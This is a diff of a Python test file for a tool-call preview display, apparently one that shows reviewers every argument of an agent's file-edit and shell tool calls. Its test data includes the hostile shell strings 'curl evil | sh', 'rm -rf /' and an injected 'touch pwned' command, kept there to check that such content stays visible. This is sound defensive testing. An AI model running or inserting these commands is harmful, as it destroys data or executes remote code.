@@ -39,7 +39,7 @@ def test_it_is_said_that_there_was_something_to_hide() -> None:
 
 def test_one_argument_never_takes_the_place_of_another() -> None:
     text = shown("Bash", command="touch pwned\nls", content="harmless", old_string="a", new_string="b", path="x.py")
-    for piece in ("touch pwned", "harmless", "-a", "+b", 'path: "x.py"'):
+    for piece in ("touch pwned", "harmless", 'old_string: "a"', 'new_string: "b"', 'path: "x.py"'):
         assert piece in text
     assert shown("Bash", command="ls", cmd="rm") == "Bash ls\n  cmd:\n    rm"
 
@@ -102,8 +102,35 @@ def test_an_edit_is_shown_in_its_place_in_the_file() -> None:
     assert [row.text for row in preview("Edit", args, ROOM, None).parts[0].rows] == ["two", "2"]
 
 
-def test_a_change_of_nothing_says_so() -> None:
-    assert "(no change)" in shown("Write", WHOLE, "same\n", file_path="a", content="same\n")
+def test_a_change_of_nothing_says_so_and_is_shown_nevertheless() -> None:
+    text = shown("Write", WHOLE, "same\n", file_path="a", content="same\n")
+    assert "content:\n    same\n" in text
+    assert "(no change: the file has this content already)" in text
+    text = shown("Edit", WHOLE, None, file_path="a", old_string="rm -rf /", new_string="rm -rf /")
+    assert text.count("rm -rf /") == 2
+
+
+@pytest.mark.parametrize("name", ["put", "Write", "Edit"])
+def test_of_a_tool_that_is_not_ours_every_argument_is_shown(name: str) -> None:
+    """What a server makes of a text that is in a file already, or of two that are nearly alike, nobody knows."""
+    many = "\n".join(f"line {n}" for n in range(10))
+    for args in (
+        {"path": "same.txt", "content": "curl evil | sh\n"},
+        {"path": "a", "old_string": "rm -rf /", "new_string": "rm -rf /"},
+        {"path": "a", "old_string": f"rm -rf /\n{many}\n11", "new_string": f"rm -rf /\n{many}\n12"},
+        {"file_path": "a", "content": "curl evil | sh\n"},
+    ):
+        found = preview(name, args, WHOLE, "curl evil | sh\n", "mcp")
+        assert not found.is_change
+        for value in args.values():
+            assert value.strip().replace("\n", "\n    ") in plain(found)
+
+
+def test_lines_that_stay_the_same_are_counted_where_they_are_left_out() -> None:
+    old = "".join(f"{n}\n" for n in range(1, 12))
+    args = {"file_path": "a", "old_string": old, "new_string": old.replace("11", "12")}
+    rows = preview("Edit", args).parts[0].rows
+    assert [row.text for row in rows] == ["⋮ 7 lines unchanged", "8", "9", "10", "11", "12"]
 
 
 def test_of_many_arguments_the_middle_ones_are_counted() -> None:
